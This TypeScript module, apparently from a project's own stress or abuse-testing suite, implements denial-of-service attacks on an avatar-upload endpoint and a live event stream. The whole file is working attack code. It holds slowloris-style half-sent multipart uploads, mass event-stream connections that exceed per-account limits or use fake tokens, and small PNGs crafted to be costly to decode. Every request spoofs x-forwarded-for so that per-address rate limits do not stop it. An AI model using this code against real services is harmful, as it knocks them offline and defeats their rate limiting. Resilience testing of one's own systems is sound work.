import { callPath, LIVE_PATH } from '@parola/calls';
import { COMMON } from '../product/api';
import type { ProductPlace } from '../product/product';
import { largePicture } from './large-picture';
import { openConnections } from './open-connections';
import type { Player } from './player';
import { sendEvery, type Strangers } from './strangers';

type Site = Pick<ProductPlace, 'url'>;

const FORMS = 200;
const STREAMS = 400;
const PICTURES_A_SECOND = 4;
/** Pixels per side: 21 million pixels, below the limit of the decoded size, which would refuse the picture early. */
const SIDE = 4_600;

/** An address of its own for each number, so that limits per address do not end the attack at once. */
const addressOf = (number: number) => `198.51.100.${1 + (number % 250)}`;

/** The first bytes of a form with a picture, which promises much more than it sends. */
function halfForm({ url }: Site, { token }: Player, number: number): string {
  const body = [
    '--half',
    'content-disposition: form-data; name="file"; filename="me.png"',
    'content-type: image/png',
    '',
    'x'.repeat(1_000),
  ].join('\r\n');
  return [
    `POST ${callPath('uploadAvatar')} HTTP/1.1`,
    `host: ${new URL(url).host}`,
    `authorization: ${token}`,
    `x-forwarded-for: ${addressOf(number)}`,
    'content-type: multipart/form-data; boundary=half',
    'content-length: 4000000',
    '',
    body,
  ].join('\r\n');
}

function accountOf(accounts: readonly Player[], number: number): Player {
  const account = accounts[number % accounts.length];
  if (!account) throw new Error('the attack needs accounts');
  return account;
}

/** Keeps forms open that never end, of logged-in accounts. */
export function halfForms(product: Site, accounts: readonly Player[]): Strangers {
  return openConnections(new URL(product.url), FORMS, (number) =>
    halfForm(product, accountOf(accounts, number), number),
  );
}

/** Keeps event streams open: of logged-in accounts, more than an account may have, and as many without a session. */
export function streams(product: Site, accounts: readonly Player[]): Strangers {
  const { host } = new URL(product.url);
  return openConnections(new URL(product.url), STREAMS, (number) =>
    [
      `GET ${LIVE_PATH} HTTP/1.1`,
      `host: ${host}`,
      `authorization: ${number % 2 === 0 ? accountOf(accounts, number / 2).token : 'made-up'}`,
      `x-forwarded-for: ${addressOf(number)}`,
      '',
      '',
    ].join('\r\n'),
  );
}

/** Sends pictures that are small to send and costly to redraw, of all accounts in turn. */
export function costlyPictures(product: Site, accounts: readonly Player[]): Strangers {
  const picture = new Blob([new Uint8Array(largePicture(SIDE))], { type: 'image/png' });
  let turn = 0;
  return sendEvery(1000 / PICTURES_A_SECOND, () => {
    turn += 1;
    const form = new FormData();
    for (const [field, value] of Object.entries(COMMON)) form.append(field, String(value));
    form.append('file', picture, 'me.png');
    const headers = { authorization: accountOf(accounts, turn).token, 'x-forwarded-for': addressOf(turn) };
    return [fetch(product.url + callPath('uploadAvatar'), { method: 'POST', headers, body: form })];
  });
}
